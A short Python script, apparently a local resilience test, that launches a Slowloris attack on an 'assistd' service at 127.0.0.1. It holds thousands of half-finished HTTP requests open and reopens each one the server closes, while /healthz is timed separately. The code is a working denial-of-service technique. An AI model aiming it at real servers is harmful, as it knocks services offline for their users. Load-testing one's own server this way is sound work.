#!/usr/bin/env python3
"""Slowloris against a local assistd: holds N connections that never finish their headers,
reopening each one the server closes, for DURATION seconds; time /healthz from another process (curl)."""
import asyncio, sys, time

HOST, PORT = "127.0.0.1", int(sys.argv[1])
N = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
DURATION = float(sys.argv[3]) if len(sys.argv) > 3 else 20.0

reopened = 0
open_now = 0

async def hold(stop):
    global reopened, open_now
    while time.monotonic() < stop:
        try:
            r, w = await asyncio.open_connection(HOST, PORT)
        except OSError:
            await asyncio.sleep(0.2)
            continue
        open_now += 1
        try:
            w.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
            await w.drain()
            # Drip a byte every second until the server closes us or time is up.
            while time.monotonic() < stop:
                try:
                    data = await asyncio.wait_for(r.read(1), 1.0)
                    if not data:
                        reopened += 1
                        break
                except asyncio.TimeoutError:
                    w.write(b"a")
                    await w.drain()
        except OSError:
            pass
        finally:
            open_now -= 1
            w.close()

async def main():
    stop = time.monotonic() + DURATION
    tasks = []
    for i in range(N):
        tasks.append(asyncio.create_task(hold(stop)))
        if i % 100 == 99:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks, return_exceptions=True)
    print(f"slowloris={N}: connections closed by the server (and reopened): {reopened}")

asyncio.run(main())
